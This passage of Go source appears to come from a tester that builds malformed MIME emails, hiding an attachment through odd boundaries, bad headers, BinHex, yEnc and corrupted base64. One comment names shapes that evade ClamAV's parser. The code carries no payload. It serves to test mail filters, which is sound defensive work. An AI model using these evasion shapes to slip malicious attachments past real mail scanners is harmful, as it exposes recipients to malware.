		{"prefix-boundaries", func(rcpt string, h hidden) []byte {
			inner := "Content-Type: multipart/mixed; boundary=\"abc\"" + crlf + crlf + delimited("abc", h.part())
			return msg(rcpt, "prefix-boundaries", []string{"Content-Type: multipart/mixed; boundary=\"ab\""}, delimited("ab", ambText, inner))
		}},
		{"missing-close-part-tail", func(rcpt string, h hidden) []byte {
			body := "--" + y + crlf + ambText + crlf + "--" + y + crlf +
				"Content-Type: text/plain; charset=utf-8" + crlf + crlf + "Die Anlage folgt." + crlf + crlf + h.part()
			return msg(rcpt, "missing-close-part-tail", []string{mixedY}, body)
		}},
		{"part-after-close-delimiter", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "part-after-close-delimiter", []string{mixedY}, delimited(y, ambText)+delimited(y, h.part()))
		}},
		{"part-in-preamble", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "part-in-preamble", []string{mixedY}, h.part()+crlf+delimited(y, ambText))
		}},
		{"part-header-blank-line", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "part-header-blank-line", []string{mixedY}, delimited(y, ambText, crlf+h.part()))
		}},
		{"content-type-without-subtype", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "content-type-without-subtype", []string{"Content-Type: multipart; boundary=\"" + y + "\""}, yBody(h))
		}},
		{"quoted-content-type", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "quoted-content-type", []string{"Content-Type: \"multipart/mixed\"; boundary=\"" + y + "\""}, yBody(h))
		}},
		{"unknown-x-encoding", func(rcpt string, h hidden) []byte {
			p := strings.Join([]string{
				fmt.Sprintf("Content-Type: %s; name=\"%s\"", h.ctype, h.name),
				"Content-Transfer-Encoding: x-binary",
				fmt.Sprintf("Content-Disposition: attachment; filename=\"%s\"", h.name),
			}, crlf) + crlf + crlf + string(h.data)
			return msg(rcpt, "unknown-x-encoding", []string{mixedY}, delimited(y, ambText, p))
		}},
		{"rfc822-without-blank-line", func(rcpt string, h hidden) []byte {
			inner := "Content-Type: message/rfc822" + crlf + crlf +
				"From: Erika Mustermann <erika.mustermann@example.com>" + crlf +
				"Subject: Weitergeleitet" + crlf + "MIME-Version: 1.0" + crlf +
				strings.Join(h.headers(), crlf) + crlf + b64(h.data)
			return msg(rcpt, "rfc822-without-blank-line", []string{mixedY}, delimited(y, ambText, inner))
		}},
		{"bare-cr-in-header", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "bare-cr-in-header", []string{"X-Note: Unterlagen\r" + mixedY}, yBody(h))
		}},
		{"nul-and-8bit-in-header", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "nul-and-8bit-in-header", []string{"X-Note: Gr\xfc\xdfe", "Content-Type: multipart/mixed;\x00 boundary=\"" + y + "\""}, yBody(h))
		}},
		{"binary-as-inline-text", func(rcpt string, h hidden) []byte {
			p := "Content-Type: text/plain; charset=us-ascii" + crlf + "Content-Disposition: inline" + crlf +
				"Content-Transfer-Encoding: base64" + crlf + crlf + b64(h.data)
			return msg(rcpt, "binary-as-inline-text", []string{mixedY}, delimited(y, ambText, p))
		}},
		{"part-without-header", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "part-without-header", []string{mixedY}, delimited(y, ambText, string(h.data)))
		}},
		{"binhex", func(rcpt string, h hidden) []byte {
			p := fmt.Sprintf("Content-Type: application/mac-binhex40; name=\"%s.hqx\"", h.name) + crlf +
				fmt.Sprintf("Content-Disposition: attachment; filename=\"%s.hqx\"", h.name) + crlf + crlf + binhex(h.name, h.data)
			return msg(rcpt, "binhex", []string{mixedY}, delimited(y, ambText, p))
		}},
		{"yenc-in-text", func(rcpt string, h hidden) []byte {
			p := "Content-Type: text/plain; charset=iso-8859-1" + crlf + "Content-Transfer-Encoding: 8bit" + crlf + crlf +
				"Hallo," + crlf + crlf + "anbei die Unterlagen." + crlf + crlf + yenc(h.name, h.data)
			return msg(rcpt, "yenc-in-text", []string{mixedY}, delimited(y, p))
		}},
		// Two shapes of the kind that let mail through ClamAV's MIME
		// parser: a boundary split in RFC 2231 continuations (readers
		// that do not join them see no boundary), and base64 with
		// characters outside the alphabet (decoders that stop there see a
		// truncated file).
		{"boundary-continuation", func(rcpt string, h hidden) []byte {
			return msg(rcpt, "boundary-continuation", []string{"Content-Type: multipart/mixed; boundary*0=\"outer-\"; boundary*1=\"y\""}, yBody(h))
		}},
		{"base64-junk", func(rcpt string, h hidden) []byte {
			enc := b64(h.data)
			var junk strings.Builder
			for i, line := range strings.Split(strings.TrimSuffix(enc, crlf), crlf) {
				if i%2 == 1 && len(line) > 8 {
					line = line[:8] + "!" + line[8:]
				}
				junk.WriteString(line + crlf)
			}
			p := strings.Join(h.headers(), crlf) + crlf + crlf + junk.String()
			return msg(rcpt, "base64-junk", []string{mixedY}, delimited(y, ambText, p))
		}},
	}
}

// binhex writes data as a BinHex 4.0 file (RFC 1741): header, data fork,
// empty resource fork, each with its CRC, run-length escaped and encoded six
// bits to a character, 64 characters a line.
func binhex(name string, data []byte) string {
	var rle []byte
	// The stream is made a whole number of 3-byte groups by lengthening
	// the stored name: Convert::BinHex (MIME-tools) turns the bits of a
	// short last group into a byte of its own.
	for stored := name; len(rle) == 0 || len(rle)%3 != 0; stored = "_" + stored {
		rle = binhexStream(stored, data)
	}
	const alphabet = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
	var enc []byte
	for i := 0; i < len(rle); i += 3 {
		var g [3]byte
		n := copy(g[:], rle[i:])
		v := uint32(g[0])<<16 | uint32(g[1])<<8 | uint32(g[2])
		for k := 0; k < n+1; k++ {
			enc = append(enc, alphabet[(v>>(18-6*k))&63])
		}
	}
	out := append([]byte(":"), enc...)
	out = append(out, ':')
	var b strings.Builder
	// No blank line before the data: MIME-tools' decoder wants the ':'
	// line right after this one (other decoders search for it).
	b.WriteString("(This file must be converted with BinHex 4.0)" + crlf)
	for len(out) > 64 {
		b.Write(out[:64])
		b.WriteString(crlf)
		out = out[64:]
	}
	b.Write(out)
	b.WriteString(crlf)
	return b.String()
}

// binhexStream is the run-length escaped binary stream of a BinHex file.
func binhexStream(name string, data []byte) []byte {
	var raw bytes.Buffer
	hdr := []byte{byte(len(name))}
	hdr = append(hdr, name...)
	hdr = append(hdr, 0)             // version
	hdr = append(hdr, "BINAmsdc"...) // type, creator
	hdr = append(hdr, 0, 0)          // flags
	hdr = binary.BigEndian.AppendUint32(hdr, uint32(len(data)))
	hdr = binary.BigEndian.AppendUint32(hdr, 0) // resource fork length
	raw.Write(hdr)
	raw.Write(binary.BigEndian.AppendUint16(nil, crcXmodem(hdr)))
	raw.Write(data)
	raw.Write(binary.BigEndian.AppendUint16(nil, crcXmodem(data)))
	raw.Write(binary.BigEndian.AppendUint16(nil, crcXmodem(nil)))
	// Run-length encoding: 0x90 is the marker; a literal 0x90 is 0x90 0x00.
	var rle []byte
	for _, c := range raw.Bytes() {
		rle = append(rle, c)
		if c == 0x90 {
			rle = append(rle, 0)
		}
	}
	return rle
}

// crcXmodem is BinHex's CRC: CCITT polynomial 0x1021, initial value 0.
func crcXmodem(data []byte) uint16 {
	var crc uint16
	for _, c := range data {
		crc ^= uint16(c) << 8
		for i := 0; i < 8; i++ {
			if crc&0x8000 != 0 {
				crc = crc<<1 ^ 0x1021
			} else {
				crc <<= 1
			}
		}
	}
	return crc
}

// yenc writes data as a single-part yEnc block (yEnc 1.3): each byte plus
// 42, NUL, LF, CR, '=', TAB, space and '.' escaped as '=' and the byte plus
// 64, 128 characters a line.
func yenc(name string, data []byte) string {
	var b strings.Builder
	fmt.Fprintf(&b, "=ybegin line=128 size=%d name=%s"+crlf, len(data), name)
	n := 0
	for _, c := range data {
		e := c + 42
		switch e {
		case 0, '\n', '\r', '=', '\t', ' ', '.':
			b.WriteByte('=')
			e += 64
			n++
		}
		b.WriteByte(e)
		n++
		if n >= 128 {
			b.WriteString(crlf)
			n = 0
		}
	}
	if n > 0 {
		b.WriteString(crlf)
	}
	fmt.Fprintf(&b, "=yend size=%d crc32=%08x"+crlf, len(data), crc32.ChecksumIEEE(data))
	return b.String()
}
